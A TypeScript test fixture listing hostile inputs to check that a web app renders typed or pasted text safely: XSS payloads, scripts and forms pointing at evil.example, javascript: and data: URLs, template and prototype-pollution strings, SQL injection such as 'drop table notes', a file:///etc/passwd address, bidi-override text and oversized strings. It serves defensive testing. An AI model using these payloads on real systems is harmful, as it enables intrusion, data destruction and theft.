/** Everything that somebody could type or paste to make a page do what it should not, or to get lost in it. */
const flag = 'window.attuneBroken=1';

const markup = [
  `<script>${flag}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type="module">import("data:text/javascript,${flag}")</script>`,
  `<img src=x onerror="${flag}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<image href=x onerror=${flag}>`,
  `<svg onload="${flag}"></svg>`,
  `<svg><script>${flag}</script></svg>`,
  `<svg><animate onbegin="${flag}" attributeName="x" dur="1s"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${flag}'/>#x"></use></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${flag}">`,
  `<iframe srcdoc="<script>parent.${flag}</script>"></iframe>`,
  `<iframe src="javascript:parent.${flag}"></iframe>`,
  `<object data="data:text/html,<script>${flag}</script>"></object>`,
  `<embed src="javascript:${flag}">`,
  `<a href="javascript:${flag}">a link</a>`,
  `<a href="data:text/html,<script>${flag}</script>">another</a>`,
  `<form action="https://evil.example"><button autofocus>send</button></form>`,
  `<input autofocus onfocus="${flag}">`,
  `<details open ontoggle="${flag}"><summary>more</summary></details>`,
  `<video><source onerror="${flag}"></video>`,
  `<marquee onstart="${flag}">`,
  `<body onload="${flag}">`,
  `<style>@import "https://evil.example/x.css"; * { display: none }</style>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<template shadowrootmode="open"><script>${flag}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${flag}>">`,
  `<p style="background:url(https://evil.example/x);position:fixed;inset:0">over all</p>`,
];

/** Out of wherever a text could have been put. */
const ways: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `</textarea></title></style>${text}`,
  (text) => text.toUpperCase().replaceAll('</', '<\\/'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&#62;'),
];

const addresses = [
  `javascript:${flag}`,
  `JaVaScRiPt&colon;${flag}`,
  `java\tscript:${flag}`,
  `vbscript:msgbox(1)`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:https://evil.example/00000000-0000-0000-0000-000000000000`,
  `//evil.example/%2e%2e/`,
  `https://user:password@evil.example/?q=<b>`,
  `file:///etc/passwd`,
];

const templates = [
  `{{constructor.constructor('${flag}')()}}`,
  `{{ 7 * 7 }} {% raw %} \${7*7} #{7*7} <%= 7*7 %> [[7*7]]`,
  `@if (true) { <b>shown</b> } @for (x of y; track x) { } @defer {`,
  `{{ {{ }} }} { } }}`,
  `*ngIf="true" [innerHTML]="x" (click)="${flag}" ng-app`,
  `__proto__ constructor toString hasOwnProperty`,
  `{"__proto__":{"broken":true},"$ne":null}`,
  `&amp;lt;script&amp;gt; &nbsp; &#0; &copy &notin; %3Cscript%3E \\u003cscript\\u003e`,
];

const statements = [
  `'; drop table notes; --`,
  `' or 1=1 --`,
  `\\'; select pg_sleep(9); --`,
  `$$; delete from clients; $$`,
  `%' union select body_text from notes --`,
  `_%_ \\ * : & | ! <-> ' ( ) "unclosed`,
  `eq.1,or(id.not.is.null) &select=* order=body`,
  `NULL null undefined NaN true [] {} 0 -1 1e309`,
];

const scripts = [
  '\u202Egnp.txet\u202C turned round',
  '\u2066\u2067\u2068 isolates that never end',
  '\u202A\u202B\u202D embedded and overridden',
  '\u200E\u200F\u061C marks',
  'שלום ‏and مرحبا in one line, 123',
  'ليلى والرغبة',
  'zero\u200Bwidth\u200Cspaces\u200Dand\u2060joiners\uFEFF',
  'soft\u00ADhyphen and no\u00A0break',
  'lines\u2028and\u2029paragraphs',
  'a\nb\r\nc\td',
  'bell\u0007 escape\u001B[31mred\u001B[0m delete\u007F',
  'private \uE000use\uE001 signs \uF8FF',
  'noncharacters \uFFFE \uFDD0 \u{1FFFE}',
  'Z\u0351\u0352\u0358a\u0301\u0323\u0328l\u0334\u0335g\u0336\u0337o\u0338',
  '👩🏽‍❤️‍💋‍👨🏻 🏳️‍⚧️ 🇬🇧 1️⃣ 👨‍👩‍👧‍👦 ❤️‍🔥',
  '\u{1F9D1}\u200D alone \uFE0F \u{E0067}\u{E0062}',
  '山田 花子 の 記録 · 한국어 · ไทย · தமிழ்',
  '𝓕𝓪𝓷𝓬𝔂 𝕥𝕖𝕩𝕥 Ｆｕｌｌ ｗｉｄｔｈ ﬁ ﷽',
  'İstanbul ıI ß ẞ Å Å e\u0301 é',
  '\u3000 wide spaces \u2003\u2009',
];

const huge = [
  'w'.repeat(20_000),
  'many words '.repeat(2_000).trim(),
  '😀'.repeat(4_000),
  'e\u0301'.repeat(3_000),
  `${'<b>'.repeat(3_000)}deep`,
  `${'('.repeat(2_000)}${'"'.repeat(2_001)}`,
];

export const hostileTexts: readonly string[] = [
  ...ways.flatMap((way) => markup.map(way)),
  ...addresses,
  ...templates,
  ...statements,
  ...scripts,
  ...huge,
];

/** Those that fit where a line is asked for. */
export const hostileLines: readonly string[] = hostileTexts.filter(
  (text) => Array.from(text).length <= 200 && text.trim() === text,
);

/** Into so many parts, in their order. */
export const dealt = <T>(all: readonly T[], parts: number): readonly (readonly T[])[] =>
  Array.from({ length: parts }, (_, nr) => all.filter((_one, at) => at % parts === nr));
